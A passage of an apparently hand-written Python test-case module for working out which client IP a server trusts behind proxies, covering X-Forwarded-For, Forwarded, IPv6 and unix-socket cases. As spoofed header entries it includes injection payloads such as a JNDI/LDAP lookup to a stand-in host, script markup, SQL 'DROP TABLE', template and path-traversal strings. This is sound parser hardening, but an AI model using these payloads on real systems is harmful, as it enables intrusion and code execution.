"""What callers and proxies send, and who the client is: each answer worked out by hand from the rules, none by a run.

The rules: the peer is the client, unless TRUSTED_PROXIES holds it. Then the right-most entry of the one header that is
no trusted proxy is; an entry that is no address ends the walk, and the nearest trusted hop before it is the client;
where all are proxies, the farthest is. IPv4-mapped addresses are IPv4 addresses.
"""

from __future__ import annotations

from typing import NamedTuple


class Setup(NamedTuple):
    """The settings a case is about."""

    trusted: tuple[str, ...]
    header: str = "X-Forwarded-For"


class Case(NamedTuple):
    what: str
    setup: Setup
    peer: str  # who the server is connected with; "" on a unix socket
    sent: tuple[str, ...]  # header lines
    client: str  # the right answer
    network: str = ""  # where it is worth saying
    refused: bool = False  # by nginx or gunicorn, with a 400


NOBODY = Setup(())
ONE = Setup(("10.0.0.1",))
CHAIN = Setup(("10.0.0.0/8", "2001:db8:ffff::/48", "unix"))
NO_SOCKET = Setup(("10.0.0.0/8",))
ONE_V6 = Setup(("2001:db8:ffff::1",))
MAPPED = Setup(("::ffff:10.0.0.0/104",))
MAPPED_ONE = Setup(("::ffff:10.0.0.1",))
LINK = Setup(("fe80::/10",))
CLOUDFLARE = Setup(("10.0.0.1",), "CF-Connecting-IP")
REAL_IP = Setup(("10.0.0.1",), "X-Real-IP")
LOWER = Setup(("10.0.0.1",), "x-forwarded-for")
RFC7239 = Setup(("10.0.0.0/8", "2001:db8:ffff::/48", "unix"), "Forwarded")

PROXY = "10.0.0.1"
VISITOR = "203.0.113.9"
LIE = "198.51.100.1"
VISITOR6 = "2001:db8:1::9"


def xff(what: str, value: str, client: str, setup: Setup = ONE, peer: str = PROXY, *, refused: bool = False) -> Case:
    return Case(what, setup, peer, (f"X-Forwarded-For: {value}",), client, refused=refused)


def forwarded(what: str, value: str, client: str, peer: str = PROXY, *, refused: bool = False) -> Case:
    return Case(what, RFC7239, peer, (f"Forwarded: {value}",), client, refused=refused)


NOBODY_IS_TRUSTED = [
    Case("no header", NOBODY, VISITOR, (), VISITOR),
    xff("a lie", LIE, VISITOR, NOBODY, VISITOR),
    xff("two lies", f"{LIE}, 198.51.100.2", VISITOR, NOBODY, VISITOR),
    xff("as if local", "127.0.0.1", VISITOR, NOBODY, VISITOR),
    xff("as if on the private network", "10.0.0.1", VISITOR, NOBODY, VISITOR),
    xff("the truth, unasked", VISITOR, VISITOR, NOBODY, VISITOR),
    xff("a local peer that forwards", LIE, "127.0.0.1", NOBODY, "127.0.0.1"),
    xff("a private peer that forwards", LIE, PROXY, NOBODY, PROXY),
    xff("an IPv6 peer that forwards", LIE, "2001:db8:1::9", NOBODY, "2001:db8:1::9"),
    xff("::1 that forwards", LIE, "::1", NOBODY, "::1"),
    Case("Forwarded", NOBODY, VISITOR, (f"Forwarded: for={LIE}",), VISITOR),
    Case("X-Real-IP", NOBODY, VISITOR, (f"X-Real-IP: {LIE}",), VISITOR),
    Case(
        "all that anybody ever believed",
        NOBODY,
        VISITOR,
        (f"X-Forwarded-For: {LIE}", f"Forwarded: for={LIE}", f"X-Real-IP: {LIE}", f"CF-Connecting-IP: {LIE}"),
        VISITOR,
    ),
    xff("a unix socket nobody trusts", VISITOR, "unknown", NOBODY, ""),
    Case("a unix socket nobody trusts, no header", NOBODY, "", (), "unknown"),
]

# Whom a peer without trust names makes no difference.
LIED = (f"X-Forwarded-For: {LIE}",)

PEERS = [
    Case("IPv6 in capitals", NOBODY, "2001:DB8:1::9", LIED, VISITOR6, "2001:db8:1::/64"),
    Case("IPv6 in full", NOBODY, "2001:0db8:0001:0000:0000:0000:0000:0009", LIED, VISITOR6, "2001:db8:1::/64"),
    Case("an address of a /64", NOBODY, "2001:db8:1:2:aaaa::1", LIED, "2001:db8:1:2:aaaa::1", "2001:db8:1:2::/64"),
    Case("its neighbour", NOBODY, "2001:db8:1:2::9", LIED, "2001:db8:1:2::9", "2001:db8:1:2::/64"),
    Case("one in the next /64", NOBODY, "2001:db8:1:3::9", LIED, "2001:db8:1:3::9", "2001:db8:1:3::/64"),
    Case("the last of a /64", NOBODY, "2001:db8:1:2:ffff:ffff:ffff:ffff", LIED, "2001:db8:1:2:ffff:ffff:ffff:ffff",
         "2001:db8:1:2::/64"),
    Case("IPv4 mapped", NOBODY, "::ffff:203.0.113.9", LIED, VISITOR, VISITOR),
    Case("IPv4 mapped, in hexadecimal capitals", NOBODY, "::FFFF:CB00:7109", LIED, VISITOR, VISITOR),
    Case("IPv4 mapped, in full", NOBODY, "0:0:0:0:0:ffff:cb00:7109", LIED, VISITOR, VISITOR),
    Case("a zone", NOBODY, "fe80::1%eth0", LIED, "fe80::1", "fe80::/64"),
    Case("the same in another zone", NOBODY, "fe80::1%wlan0", LIED, "fe80::1", "fe80::/64"),
    Case("a port", NOBODY, "203.0.113.9:4711", LIED, VISITOR, VISITOR),
    Case("a name", NOBODY, "localhost", LIED, "unknown", "unknown"),
    Case("nginx' word for a socket", NOBODY, "unix:", LIED, "unknown", "unknown"),
    Case("an abstract socket", NOBODY, "@", LIED, "unknown", "unknown"),
    Case("octal", NOBODY, "0177.0.0.1", LIED, "unknown", "unknown"),
    Case("one number", NOBODY, "2130706433", LIED, "unknown", "unknown"),
    Case("short", NOBODY, "127.1", LIED, "unknown", "unknown"),
    Case("hexadecimal", NOBODY, "0x7f.0.0.1", LIED, "unknown", "unknown"),
    Case("too big a number", NOBODY, "203.0.113.256", LIED, "unknown", "unknown"),
    Case("full-width digits", NOBODY, "\uff12\uff10\uff13.0.113.9", LIED, "unknown", "unknown"),
]  # fmt: skip

ONE_PROXY = [
    Case("no header: the proxy speaks for itself", ONE, PROXY, (), PROXY),
    xff("the visitor", VISITOR, VISITOR),
    xff("a lie before", f"{LIE}, {VISITOR}", VISITOR),
    xff("two lies before", f"{LIE}, 198.51.100.2, {VISITOR}", VISITOR),
    xff("the proxy's own address before", f"10.0.0.1, {VISITOR}", VISITOR),
    xff("the visitor's own address before", f"{VISITOR}, {VISITOR}", VISITOR),
    xff("loopback before", f"127.0.0.1, {VISITOR}", VISITOR),
    xff("IPv6 loopback before", f"::1, {VISITOR}", VISITOR),
    xff("a private address before", f"192.168.1.1, {VISITOR}", VISITOR),
    xff("the cloud's metadata address before", f"169.254.169.254, {VISITOR}", VISITOR),
    xff("no address at all before", f"0.0.0.0, {VISITOR}", VISITOR),
    xff("everybody's address before", f"255.255.255.255, {VISITOR}", VISITOR),
    xff("a multicast address before", f"224.0.0.1, {VISITOR}", VISITOR),
    xff("an IPv6 lie before", f"2001:db8:9::9, {VISITOR}", VISITOR),
    xff("a mapped lie before", f"::ffff:198.51.100.1, {VISITOR}", VISITOR),
    xff("unknown before", f"unknown, {VISITOR}", VISITOR),
    xff("a hidden one before", f"_hidden, {VISITOR}", VISITOR),
    xff("a socket before", f"unix:, {VISITOR}", VISITOR),
    xff("nothing before", f", {VISITOR}", VISITOR),
    xff("much nothing before", f",,, , ,{VISITOR}", VISITOR),
    xff("a wall of commas before", "," * 50_000 + VISITOR, VISITOR),
    xff("a quote before", f'", {VISITOR}', VISITOR),
    xff("an open quote before", f'"evil, {VISITOR}', VISITOR),
    xff("a backslash before", f"a\\, {VISITOR}", VISITOR),
    xff("semicolons before", f";,;,,{VISITOR}", VISITOR),
    xff("brackets before", f"[[[[, {VISITOR}", VISITOR),
    xff("colons before", f"::::, {VISITOR}", VISITOR),
    xff("percent signs before", f"%s%s%n%00, {VISITOR}", VISITOR),
    xff("markup before", f"<script>alert(1)</script>, {VISITOR}", VISITOR),
    xff("an escape sequence before", f"\x1b[31m, {VISITOR}", VISITOR, refused=True),
    xff("a look-up before", f"${{jndi:ldap://198.51.100.1/a}}, {VISITOR}", VISITOR),
    xff("a zero byte before", f"198.51.100.1\x00, {VISITOR}", VISITOR, refused=True),
    xff("an element of Forwarded before", f"for={LIE}, {VISITOR}", VISITOR),
    xff("no space", f"{LIE},{VISITOR}", VISITOR),
    xff("a space before the comma", f"{LIE} ,{VISITOR}", VISITOR),
    xff("a tab after the comma", f"{LIE},\t{VISITOR}", VISITOR),
    xff("spaces and tabs around", f" \t {LIE} , \t {VISITOR} \t ", VISITOR),
    xff("a comma at the end: nobody is named", f"{VISITOR},", PROXY),
    xff("two commas at the end", f"{VISITOR}, ,", PROXY),
    xff("only a comma", ",", PROXY),
    xff("an empty header", "", PROXY),
    xff("only spaces", "   ", PROXY),
    xff("parted by a space", f"{LIE} {VISITOR}", PROXY),
    xff("parted by a semicolon", f"{LIE};{VISITOR}", PROXY),
    xff("unknown", "unknown", PROXY),
    xff("a visitor, then unknown", f"{VISITOR}, unknown", PROXY),
    xff("a visitor, then a hidden one", f"{VISITOR}, _hidden", PROXY),
    xff("a second proxy that nobody trusts is the client", f"{VISITOR}, 10.0.0.2", "10.0.0.2"),
    xff("a peer that is not the proxy", VISITOR, "10.0.0.2", peer="10.0.0.2"),
    xff("a peer that is not the proxy names the proxy", PROXY, "10.0.0.2", peer="10.0.0.2"),
    xff("a peer whose text begins like the proxy's", VISITOR, "10.0.0.10", peer="10.0.0.10"),
    xff("a stranger names the proxy", PROXY, LIE, peer=LIE),
    xff("a stranger names somebody", VISITOR, LIE, peer=LIE),
    xff("a stranger names somebody behind the proxy", f"{VISITOR}, {PROXY}", LIE, peer=LIE),
    xff("the proxy as a dual-stack socket shows it", VISITOR, VISITOR, peer="::ffff:10.0.0.1"),
    xff("the proxy as a dual-stack socket shows it, hexadecimal", VISITOR, VISITOR, peer="::ffff:a00:1"),
    xff("IPv6 that ends like the proxy is another", VISITOR, "::a00:1", peer="::10.0.0.1"),
    xff("a unix socket is not this proxy", VISITOR, "unknown", peer=""),
    xff("the setting in small letters", f"{LIE}, {VISITOR}", VISITOR, LOWER),
]

LINES = [
    Case("two lines are one list", ONE, PROXY, (f"X-Forwarded-For: {LIE}", f"X-Forwarded-For: {VISITOR}"), VISITOR),
    Case("the last line counts", ONE, PROXY, (f"X-Forwarded-For: {VISITOR}", f"X-Forwarded-For: {LIE}"), LIE),
    Case("three lines", ONE, PROXY,
         (f"X-Forwarded-For: {LIE}", "X-Forwarded-For: 198.51.100.2", f"X-Forwarded-For: {VISITOR}"), VISITOR),
    Case("a list, then a line", ONE, PROXY, (f"X-Forwarded-For: {LIE}, {LIE}", f"X-Forwarded-For: {VISITOR}"), VISITOR),
    Case("an empty line first", ONE, PROXY, ("X-Forwarded-For:", f"X-Forwarded-For: {VISITOR}"), VISITOR),
    Case("an empty line last: nobody is named", ONE, PROXY, (f"X-Forwarded-For: {VISITOR}", "X-Forwarded-For:"), PROXY),
    Case("lines in other letters are the same header", ONE, PROXY,
         (f"x-forwarded-for: {LIE}", f"X-FORWARDED-FOR: {VISITOR}"), VISITOR),
    Case("small letters", ONE, PROXY, (f"x-forwarded-for: {LIE}, {VISITOR}",), VISITOR),
    Case("capitals", ONE, PROXY, (f"X-FORWARDED-FOR: {LIE}, {VISITOR}",), VISITOR),
    Case("mixed", ONE, PROXY, (f"x-fOrWaRdEd-FoR: {LIE}, {VISITOR}",), VISITOR),
    Case("no space after the colon", ONE, PROXY, (f"X-Forwarded-For:{VISITOR}",), VISITOR),
    Case("underscores are another header", ONE, PROXY, (f"X_Forwarded_For: {LIE}",), PROXY),
    Case("underscores in capitals", ONE, PROXY, (f"X_FORWARDED_FOR: {LIE}",), PROXY),
    Case("an underscore and a hyphen", ONE, PROXY, (f"X_Forwarded-For: {LIE}",), PROXY),
    Case("underscores before the header", ONE, PROXY,
         (f"X_Forwarded_For: {LIE}", f"X-Forwarded-For: {VISITOR}"), VISITOR),
    Case("underscores after the header", ONE, PROXY,
         (f"X-Forwarded-For: {VISITOR}", f"X_Forwarded_For: {LIE}"), VISITOR),
    Case("a header that begins alike", ONE, PROXY, (f"X-Forwarded-For-Original: {LIE}",), PROXY),
    Case("a header that ends alike", ONE, PROXY, (f"X-X-Forwarded-For: {LIE}",), PROXY),
]  # fmt: skip

NEVER_READ = (
    "X-Real-IP", "CF-Connecting-IP", "CF-Connecting-IPv6", "True-Client-IP", "X-Client-IP", "Client-IP", "X-Forwarded",
    "Forwarded-For", "X-Cluster-Client-IP", "Fastly-Client-IP", "Fly-Client-IP", "Via", "X-Forwarded-Host",
    "X-Original-Forwarded-For", "X-Originating-IP", "X-Remote-IP", "X-Remote-Addr", "Remote-Addr", "X-ProxyUser-IP",
    "X-Azure-ClientIP", "WL-Proxy-Client-IP", "X-Envoy-External-Address", "X-AppEngine-User-IP", "X-Host",
)  # fmt: skip

OTHER_HEADERS = [
    *[Case(f"{name} alone", ONE, PROXY, (f"{name}: {LIE}",), PROXY) for name in NEVER_READ],
    *[Case(f"{name} beside", ONE, PROXY, (f"X-Forwarded-For: {LIE}, {VISITOR}", f"{name}: {LIE}"), VISITOR)
      for name in NEVER_READ],
    Case("Forwarded alone", ONE, PROXY, (f"Forwarded: for={LIE}",), PROXY),
    Case("Forwarded beside", ONE, PROXY, (f"Forwarded: for={LIE}", f"X-Forwarded-For: {VISITOR}"), VISITOR),
    Case("the one the settings name", CLOUDFLARE, PROXY, (f"CF-Connecting-IP: {VISITOR}",), VISITOR),
    Case("X-Forwarded-For beside that", CLOUDFLARE, PROXY,
         (f"X-Forwarded-For: {LIE}", f"CF-Connecting-IP: {VISITOR}"), VISITOR),
    Case("X-Forwarded-For instead of that", CLOUDFLARE, PROXY, (f"X-Forwarded-For: {LIE}",), PROXY),
    Case("that one from a stranger", CLOUDFLARE, LIE, (f"CF-Connecting-IP: {VISITOR}",), LIE),
    Case("that one twice: the proxy's is the last", CLOUDFLARE, PROXY,
         (f"CF-Connecting-IP: {LIE}", f"CF-Connecting-IP: {VISITOR}"), VISITOR),
    Case("X-Real-IP where the settings name it", REAL_IP, PROXY,
         (f"X-Forwarded-For: {LIE}", f"X-Real-IP: {VISITOR}"), VISITOR),
]  # fmt: skip

# The right-most entry, behind one proxy: an address however it is written, or none, and then the proxy is the client.
SPELLINGS = [
    *[xff(f"a way to write it: {text}", f"{LIE}, {text}", client) for text, client in (
        ("203.0.113.9:443", VISITOR),
        ("203.0.113.9:0", VISITOR),
        ("203.0.113.9:65535", VISITOR),
        ("[203.0.113.9]", VISITOR),
        ("[203.0.113.9]:80", VISITOR),
        ('"203.0.113.9"', VISITOR),
        ('"203.0.113.9:80"', VISITOR),
        ("2001:db8:1::9", VISITOR6),
        ("2001:DB8:1::9", VISITOR6),
        ("2001:0db8:0001:0000:0000:0000:0000:0009", VISITOR6),
        ("2001:db8:1:0:0::9", VISITOR6),
        ("[2001:db8:1::9]", VISITOR6),
        ("[2001:DB8:1::9]:443", VISITOR6),
        ('"[2001:db8:1::9]:443"', VISITOR6),
        ("2001:db8:1::9%eth0", VISITOR6),
        ("[2001:db8:1::9%25eth0]:443", VISITOR6),
        ("2001:db8:1::9:443", "2001:db8:1::9:443"),
        ("fe80::1%eth0", "fe80::1"),
        ("[fe80::1%eth0]:80", "fe80::1"),
        ("::ffff:203.0.113.9", VISITOR),
        ("::FFFF:203.0.113.9", VISITOR),
        ("::ffff:cb00:7109", VISITOR),
        ("0:0:0:0:0:ffff:203.0.113.9", VISITOR),
        ("[::ffff:203.0.113.9]:80", VISITOR),
        ("::203.0.113.9", "::cb00:7109"),
        ("64:ff9b::203.0.113.9", VISITOR),  # an IPv4 visitor, as a NAT64 gateway shows it
    )],
    *[xff(f"no address: {text!a}", f"{LIE}, {text}", PROXY) for text in (
        "203.0.113.9:65536", "203.0.113.9:99999", "203.0.113.9:", "203.0.113.9:http", "203.0.113.9:+80",
        "203.0.113.9:-1", "203.0.113.9:80:80", "203.0.113.9:\uff14\uff14\uff13", "203.0.113.9%eth0", "203.0.113.9/32",
        "203.0.113.9\\", "+203.0.113.9", "203.0.113.-9", "203.0.113", "203.0.113.9.1", "203.0.113.9.", ".203.0.113.9",
        "203..113.9", "203.0.113.256", "203.0.113.009", "203.000.113.9", "203.0. 113.9", "0177.0.0.1", "0x7f.0.0.1",
        "0x7f000001", "2130706433", "017700000001", "127.1", "1e3.0.0.1",
        "\uff12\uff10\uff13.0.113.9", "\u0662\u0660\u0663.0.113.9", "\u00b203.0.113.9",
        "203\u30020\u3002113\u30029", "\u200b203.0.113.9", "203.0.113.9\u202e", "[2001:db8:1::9", "2001:db8:1::9]",
        "[2001:db8:1::9]x", "[2001:db8:1::9]:", "[2001:db8:1::9]:99999", "[]", "[]:80", "2001:db8:1:::9",
        "2001:db8::1::9", "1:2:3:4:5:6:7:8:9", "1:2:3:4:5:6:7", "2001:db8:1::g", "2001:db8:1::12345", "fe80::1%",
        ":", "::ffff:203.0.113.256", "::ffff:0xcb.0.113.9", "http://203.0.113.9",
        "localhost", "visitor.example", "null", "undefined", "-", "*", "(null)", "_hidden",
        "unix:", "unix:/run/nginx.sock", "for=203.0.113.9", "ip=203.0.113.9", "203.0.113.9 203.0.113.10",
        "203.0.113.9|203.0.113.10", "'; DROP TABLE log; --", "{{7*7}}", "../../etc/passwd",
    )],
    *[xff(f"a control character: {text!a}", f"{LIE}, {text}", PROXY, refused=True) for text in (
        "203.0.113.9\x00", "203.0.113.9\x00,198.51.100.1\x00", "203.0.113.9\x01", "203.0.113.9\x7f",
        "\x1b[31m203.0.113.9", "203.0.113.9\x1b[2J",
    )],
]  # fmt: skip

CHAINS = [
    xff("two proxies", f"{VISITOR}, 10.0.0.2", VISITOR, CHAIN),
    xff("three proxies and a lie", f"{LIE}, {VISITOR}, 10.0.0.2, 10.1.2.3", VISITOR, CHAIN),
    xff("a proxy's address as the lie", f"10.9.9.9, {VISITOR}, 10.0.0.2", VISITOR, CHAIN),
    xff("only proxies' addresses as lies", f"10.9.9.9, 10.9.9.8, {VISITOR}", VISITOR, CHAIN),
    xff("a lie between is somebody: who called the next proxy", f"{VISITOR}, {LIE}, 10.0.0.2", LIE, CHAIN),
    xff("an IPv6 proxy", f"{VISITOR}, 2001:db8:ffff::7", VISITOR, CHAIN),
    xff("an IPv6 proxy in capitals", f"{VISITOR}, 2001:DB8:FFFF:0::7", VISITOR, CHAIN),
    xff("an IPv6 proxy with a port", f"{VISITOR}, [2001:db8:ffff::7]:80", VISITOR, CHAIN),
    xff("a proxy with a port", f"{VISITOR}, 10.0.0.2:8080", VISITOR, CHAIN),
    xff("a mapped proxy", f"{VISITOR}, ::ffff:10.0.0.3", VISITOR, CHAIN),
    xff("an IPv6 visitor", f"{LIE}, {VISITOR6}, 10.0.0.2", VISITOR6, CHAIN),
    xff("the first of the network", f"{VISITOR}, 10.0.0.0", VISITOR, CHAIN),
    xff("the last of the network", f"{VISITOR}, 10.255.255.255", VISITOR, CHAIN),
    xff("one past the network", f"{VISITOR}, 11.0.0.0", "11.0.0.0", CHAIN),
    xff("one before the network", f"{VISITOR}, 9.255.255.255", "9.255.255.255", CHAIN),
    xff("one past the IPv6 network", f"{VISITOR}, 2001:db8:fffe:ffff::1", "2001:db8:fffe:ffff::1", CHAIN),
    xff("IPv6 that only ends like a proxy", f"{VISITOR}, ::10.0.0.2", "::a00:2", CHAIN),
    xff("all are proxies: the farthest", "10.0.0.7, 10.0.0.8", "10.0.0.7", CHAIN),
    xff("one entry, and that a proxy", "10.0.0.7", "10.0.0.7", CHAIN),
    xff("nobody between proxies", f"{LIE}, , 10.0.0.2", "10.0.0.2", CHAIN),
    xff("unknown between proxies", f"{LIE}, unknown, 10.0.0.2", "10.0.0.2", CHAIN),
    xff("a hidden one between proxies", f"{LIE}, _hidden, 10.0.0.2", "10.0.0.2", CHAIN),
    xff("a socket between proxies", f"{LIE}, unix:, 10.0.0.2", "10.0.0.2", CHAIN),
    xff("a proxy in octal is no proxy", f"{VISITOR}, 012.0.0.2", PROXY, CHAIN),
    xff("a proxy with a zero before is no proxy", f"{VISITOR}, 010.0.0.2", PROXY, CHAIN),
    xff("a network is no proxy", f"{VISITOR}, 10.0.0.0/8", PROXY, CHAIN),
    xff("proxies, then a comma", f"{VISITOR}, 10.0.0.2,", PROXY, CHAIN),
    xff("fifty proxies", VISITOR + ", 10.0.0.2" * 50, VISITOR, CHAIN),
    xff("lies up to the brim, then two proxies", f"{LIE}, " * 9_000 + f"{VISITOR}, 10.0.0.2", VISITOR, CHAIN),
    xff("proxies as lies up to the brim", "10.9.9.9, " * 9_000 + f"{VISITOR}, 10.0.0.2", VISITOR, CHAIN),
    Case("a line for each proxy", CHAIN, PROXY,
         (f"X-Forwarded-For: {LIE}", f"X-Forwarded-For: {VISITOR}", "X-Forwarded-For: 10.0.0.2"), VISITOR),
    xff("an IPv6 peer", VISITOR, VISITOR, CHAIN, "2001:db8:ffff::1"),
    xff("an IPv6 peer in capitals", VISITOR, VISITOR, CHAIN, "2001:DB8:FFFF::1"),
    xff("an IPv6 peer next door", VISITOR, "2001:db8:fffe::1", CHAIN, "2001:db8:fffe::1"),
    xff("a mapped peer", VISITOR, VISITOR, CHAIN, "::ffff:10.200.0.1"),
    xff("a mapped peer next door", VISITOR, "11.0.0.1", CHAIN, "::ffff:11.0.0.1"),
    xff("a stranger who names proxies only", "10.0.0.2, 10.0.0.3", LIE, CHAIN, LIE),
    xff("the IPv6 proxy", VISITOR, VISITOR, ONE_V6, "2001:db8:ffff::1"),
    Case("its neighbour in the same /64 is no proxy", ONE_V6, "2001:db8:ffff::2", (f"X-Forwarded-For: {VISITOR}",),
         "2001:db8:ffff::2", "2001:db8:ffff::/64"),
    xff("trust written mapped, peer plain", VISITOR, VISITOR, MAPPED, PROXY),
    xff("trust written mapped, peer mapped", VISITOR, VISITOR, MAPPED, "::ffff:10.0.0.1"),
    xff("trust written mapped, entry plain", f"{VISITOR}, 10.9.9.9", VISITOR, MAPPED, PROXY),
    xff("trust written mapped, a stranger", VISITOR, "11.0.0.1", MAPPED, "11.0.0.1"),
    xff("one address written mapped", VISITOR, VISITOR, MAPPED_ONE, PROXY),
    xff("one address written mapped, its neighbour", VISITOR, "10.0.0.2", MAPPED_ONE, "10.0.0.2"),
    xff("a link-local peer with a zone", VISITOR, VISITOR, LINK, "fe80::1%eth0"),
    xff("a link-local entry with a zone", f"{VISITOR}, fe80::2%eth1", VISITOR, LINK, "fe80::1%eth0"),
    xff("the last link-local network", VISITOR, VISITOR, LINK, "febf::1"),
    xff("past the link-local network", VISITOR, "fec0::1", LINK, "fec0::1"),
]  # fmt: skip

SOCKETS = [
    xff("a visitor", VISITOR, VISITOR, CHAIN, ""),
    xff("a lie before", f"{LIE}, {VISITOR}", VISITOR, CHAIN, ""),
    xff("a proxy between", f"{VISITOR}, 10.0.0.2", VISITOR, CHAIN, ""),
    xff("only a proxy", "10.0.0.2", "10.0.0.2", CHAIN, ""),
    Case("no header", CHAIN, "", (), "unknown", "unknown"),
    xff("an empty header", "", "unknown", CHAIN, ""),
    xff("unknown", "unknown", "unknown", CHAIN, ""),
    xff("a socket behind a socket", f"{VISITOR}, unix:", "unknown", CHAIN, ""),
    xff("a comma at the end", f"{VISITOR},", "unknown", CHAIN, ""),
    xff("a peer that names garbage is no socket", VISITOR, "unknown", CHAIN, "unix:"),
    xff("a peer that names a path is no socket", VISITOR, "unknown", CHAIN, "/run/nginx.sock"),
    xff("not trusted", VISITOR, "unknown", NO_SOCKET, ""),
    xff("not trusted, a proxy named", "10.0.0.2", "unknown", NO_SOCKET, ""),
    forwarded("Forwarded", f"for={VISITOR}", VISITOR, ""),
    Case("no Forwarded", RFC7239, "", (), "unknown", "unknown"),
    Case("a mapped visitor", CHAIN, "", ("X-Forwarded-For: ::ffff:203.0.113.9",), VISITOR, VISITOR),
    Case("an IPv6 visitor", CHAIN, "", (f"X-Forwarded-For: {VISITOR6}",), VISITOR6, "2001:db8:1::/64"),
]

LONG = [
    xff("ten thousand lies", f"{LIE}, " * 10_000 + VISITOR, VISITOR),
    xff("100 kB in one entry before", "x" * 100_000 + f", {VISITOR}", VISITOR),
    xff("100 kB in one entry", "x" * 100_000, PROXY),
    xff("100 kB of spaces before", " " * 100_000 + VISITOR, VISITOR),
    xff("100 kB of digits", "9" * 100_000, PROXY),
    xff("100 kB of digits before", "9" * 100_000 + f", {VISITOR}", VISITOR),
    xff("a port of 50,000 digits", "203.0.113.9:" + "9" * 50_000, PROXY),
    xff("a port of 50,000 zeros", "203.0.113.9:" + "0" * 50_000, VISITOR),
    xff("50,000 brackets", "[" * 50_000, PROXY),
    xff("50,000 colons", ":" * 50_000, PROXY),
    xff("a zone of 300 letters", "fe80::1%" + "a" * 300, PROXY),
    forwarded("thousands of elements", f"for={LIE}, " * 5_000 + f"for={VISITOR}", VISITOR),
    forwarded("a host of 5,000 letters", f'for={VISITOR};host="{"a" * 5_000}"', VISITOR),
    forwarded("a host of 5,000 commas", f'for={VISITOR};host="{"," * 5_000}"', VISITOR),
    forwarded("a host of 5,000 semicolons", f'for={VISITOR};host="{";" * 5_000}"', VISITOR),
    forwarded("5,001 quotes before", '"' * 5_001 + f", for={VISITOR}", VISITOR),
    forwarded("5,000 commas before", "," * 5_000 + f"for={VISITOR}", VISITOR),
    forwarded("5,000 backslashes before", "\\" * 5_000 + f", for={VISITOR}", VISITOR),
]

ELEMENTS = [
    Case("no header", RFC7239, PROXY, (), PROXY),
    # Behind a lie, which must never be reached.
    *[forwarded(f"one element: {text}", f"for=198.51.100.7, {text}", client) for text, client in (
        ("for=203.0.113.9", VISITOR),
        ("For=203.0.113.9", VISITOR),
        ("FOR=203.0.113.9", VISITOR),
        ('for="203.0.113.9"', VISITOR),
        ('for="203.0.113.9:4711"', VISITOR),
        ("for=203.0.113.9:4711", VISITOR),
        ('for="[2001:db8:1::9]"', VISITOR6),
        ('for="[2001:DB8:1::9]:47011"', VISITOR6),
        ('for="2001:db8:1::9"', VISITOR6),
        ("for=[2001:db8:1::9]", VISITOR6),
        ('for="[::ffff:203.0.113.9]"', VISITOR),
        ('for="[fe80::1%25eth0]"', "fe80::1"),
        ("for=203.0.113.9;proto=https;by=10.0.0.1", VISITOR),
        ("by=10.0.0.1;for=203.0.113.9", VISITOR),
        ("proto=https;by=10.0.0.1;host=shop.example;for=203.0.113.9", VISITOR),
        ('host="shop.example:8443";for=203.0.113.9;proto=https', VISITOR),
        ("Proto=HTTPS;Host=SHOP.EXAMPLE;By=10.0.0.1;For=203.0.113.9", VISITOR),
        ("for=203.0.113.9; proto=https", VISITOR),
        ("for=203.0.113.9 ; proto=https", VISITOR),
        ("for=203.0.113.9;", VISITOR),
        (";for=203.0.113.9", VISITOR),
        ("for=203.0.113.9;;proto=https", VISITOR),
        ("for=203.0.113.9;ext=a=b", VISITOR),
        ("for=203.0.113.9;by=198.51.100.1", VISITOR),
        ("for=203.0.113.9;by=_proxy", VISITOR),
        ('for=203.0.113.9;host=""', VISITOR),
        ("by=203.0.113.9", PROXY),
        ("host=203.0.113.9", PROXY),
        ("proto=https", PROXY),
        ("forr=203.0.113.9", PROXY),
        ("xfor=203.0.113.9", PROXY),
        ("for", PROXY),
        ("for=", PROXY),
        ('for=""', PROXY),
        ("=203.0.113.9", PROXY),
        ("203.0.113.9", PROXY),
        ("for:203.0.113.9", PROXY),
        ("for=unknown", PROXY),
        ("for=Unknown", PROXY),
        ("for=_hidden", PROXY),
        ('for="_gazonk"', PROXY),
        ("for=0177.0.0.1", PROXY),
        ("for=2130706433", PROXY),
        ("for=127.1", PROXY),
        ("for=\uff12\uff10\uff13.0.113.9", PROXY),
        ('for="203.0.113.9:99999"', PROXY),
        ('for="[2001:db8:1::9"', PROXY),
        ("for=203.0.113.9/32", PROXY),
        (r'for="203.0.113\.9"', PROXY),
        ("for=203.0.113.9\\", PROXY),
        ('for="203.0.113.9', PROXY),
        ('for=203.0.113.9"', PROXY),
        ('for=203.0.113.9;host="x', PROXY),
        ('for="203.0.113.9"x', PROXY),
        ('for=""203.0.113.9""', PROXY),
        ("for=203.0.113.9 198.51.100.1", PROXY),
        ("for=198.51.100.1;for=203.0.113.9", PROXY),
        ("for=203.0.113.9;for=203.0.113.9", PROXY),
        ("for=203.0.113.9;by=a;FOR=198.51.100.1", PROXY),
        ("for=203.0.113.9;garbage", PROXY),
        ('for=203.0.113.9;host="a"b"', PROXY),
    )],
]  # fmt: skip

LISTS_OF_ELEMENTS = [
    *[forwarded(f"several: {text}", text, client) for text, client in (
        ("for=198.51.100.1, for=203.0.113.9", VISITOR),
        ("for=198.51.100.1,for=203.0.113.9", VISITOR),
        ("for=198.51.100.1 ,\tfor=203.0.113.9", VISITOR),
        ("for=10.0.0.9, for=203.0.113.9", VISITOR),
        ("for=127.0.0.1, for=203.0.113.9", VISITOR),
        ("198.51.100.1, for=203.0.113.9", VISITOR),
        (", for=203.0.113.9", VISITOR),
        ("for=198.51.100.1, for=203.0.113.9;by=10.0.0.1, for=10.0.0.2", VISITOR),
        ('for=203.0.113.9, for="[2001:db8:ffff::5]"', VISITOR),
        ('for=203.0.113.9, for="10.0.0.2:80";proto=http', VISITOR),
        ("for=198.51.100.1;for=198.51.100.1, for=203.0.113.9", VISITOR),
        ("for=10.0.0.7, for=10.0.0.8", "10.0.0.7"),
        ("for=203.0.113.9, for=11.0.0.2", "11.0.0.2"),
        ("for=198.51.100.1, for=unknown, for=10.0.0.2", "10.0.0.2"),
        ("for=198.51.100.1, for=_SEVKISEK, for=10.0.0.2", "10.0.0.2"),
        ("for=198.51.100.1, proto=https, for=10.0.0.2", "10.0.0.2"),
        ("for=198.51.100.1, , for=10.0.0.2", "10.0.0.2"),
        ("for=198.51.100.1;for=203.0.113.9, for=10.0.0.2", "10.0.0.2"),
        ("for=203.0.113.9,", PROXY),
        ("for=203.0.113.9, for=10.0.0.2,", PROXY),
        ('for=203.0.113.9;host="a,b"', VISITOR),
        ('for=203.0.113.9;host="a;b"', VISITOR),
        ('host="a;for=198.51.100.1";for=203.0.113.9', VISITOR),
        ('host="a, for=198.51.100.1";for=203.0.113.9', VISITOR),
